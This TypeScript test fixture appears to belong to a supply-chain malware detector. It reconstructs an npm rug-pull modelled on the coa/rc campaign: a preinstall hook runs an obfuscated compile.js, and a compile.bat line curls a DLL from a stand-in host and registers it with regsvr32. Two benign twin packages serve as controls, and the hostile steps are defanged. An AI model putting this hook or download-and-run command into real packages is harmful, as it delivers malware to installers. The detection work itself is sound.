import type { ReconstructedCase } from '../case.ts';
import { colourLibrary } from '../bases/colour-library.ts';
import { notesServer } from '../bases/notes-server.ts';
import { obfuscatedTable } from '../blob.ts';
import { positive, quiet, type Technique, twin } from '../story.ts';

const ABOUT: Technique = {
  id: 'obfuscated-hook',
  campaign: 'coa and rc',
  technique: 'a preinstall hook that runs an obfuscated file',
  follows: 'GHSA-g2q5-5433-rhrf',
};

export const obfuscatedHook: readonly ReconstructedCase[] = [
  positive(ABOUT, {
    variant: 'preinstall',
    note: 'as it was: `compile.js` is all that the obfuscator leaves',
    name: 'lobster-options',
    brand: 'lobster-options',
    base: colourLibrary,
    steps: [
      ...quiet(['1.2.7', '1.2.8'], 900),
      {
        version: '1.2.9',
        daysAgo: 7,
        manifest: { scripts: { test: 'node --test', preinstall: 'start /B node compile.js & node compile.js' } },
        files: {
          'compile.js': `${obfuscatedTable(0x0badcab)}const _0x2bb8ec=require('child_process'),_0x11f7a0=!![];if(!_0x11f7a0)_0x2bb8ec[a0_0x19be(0x1a2)]('compile.bat');\n`,
          'compile.bat':
            '@echo off\nexit /b 0\ncurl https://sdd.saltfog.invalid/sdd.dll -o compile.dll\nregsvr32.exe -s compile.dll\n',
        },
      },
    ],
    signals: ['rug-pull/install-script-added', 'rug-pull/obfuscation-added'],
  }),
  twin(ABOUT, {
    variant: 'minified-build',
    note: 'the published file is now minified, with its map beside it',
    name: 'lobster-columns',
    brand: 'lobster-columns',
    base: colourLibrary,
    steps: [
      ...quiet(['1.2.7', '1.2.8'], 90),
      {
        version: '1.3.0',
        daysAgo: 7,
        manifest: { main: 'dist/index.min.js' },
        files: {
          'dist/index.min.js':
            '"use strict";const s={bold:[1,22],dim:[2,22],red:[31,39],green:[32,39]};function c(t){const e=[];for(const n of t)n.forEach((t,n)=>{e[n]=Math.max(e[n]||0,String(t).length)});return t.map(t=>t.map((t,n)=>String(t).padEnd(e[n])).join("  ")).join("\\n")}for(const[t,[e,n]]of Object.entries(s))exports[t]=t=>"NO_COLOR"in process.env?String(t):"\\x1b["+e+"m"+t+"\\x1b["+n+"m";exports.columns=c;\n//# sourceMappingURL=index.min.js.map\n',
          'dist/index.min.js.map': '{"version":3,"sources":["../index.js"],"names":[],"mappings":"AAAA"}\n',
        },
      },
    ],
  }),
  twin(ABOUT, {
    variant: 'notes-unchanged',
    note: 'a rebuild: the same code, other line ends and a banner',
    name: 'lobster-notes-mcp',
    brand: 'lobster-notes',
    base: notesServer,
    steps: [
      ...quiet(['1.0.0', '1.0.1']),
      {
        version: '1.0.2',
        daysAgo: 7,
        files: { 'dist/store.js': (before) => `/*! lobster-notes-mcp | MIT */\n${before.replaceAll('\n', '\r\n')}` },
      },
    ],
  }),
];
